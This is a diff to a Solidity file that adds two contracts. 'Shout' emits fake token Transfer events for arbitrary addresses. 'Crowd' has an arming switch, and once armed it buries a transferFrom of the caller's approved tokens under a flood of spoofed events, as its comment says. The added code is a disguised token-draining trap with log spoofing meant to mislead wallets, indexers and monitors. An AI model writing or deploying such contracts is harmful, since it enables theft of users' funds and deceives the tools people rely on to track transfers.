@@ -141,3 +141,35 @@ contract Weather {
     if (block.coinbase == address(0) || block.coinbase.balance == 0) payable(msg.sender).transfer(msg.value);
   }
 }
+
+contract Shout {
+  event Transfer(address indexed from, address indexed to, uint256 value);
+
+  function balanceOf(address) external pure returns (uint256) {
+    return 0;
+  }
+
+  function shout(address from) external {
+    emit Transfer(from, address(this), 1);
+  }
+}
+
+// Once it is told to, drowns what it takes in what others say.
+contract Crowd {
+  Shout[] crowd;
+  bool ready;
+
+  function grow(uint256 count) external {
+    for (uint256 n = 0; n < count; n++) crowd.push(new Shout());
+  }
+
+  function arm() external {
+    ready = true;
+  }
+
+  function greet(address token, uint256 value) external {
+    if (!ready) return;
+    for (uint256 n = 0; n < crowd.length; n++) crowd[n].shout(msg.sender);
+    Taken(token).transferFrom(msg.sender, address(this), value);
+  }
+}
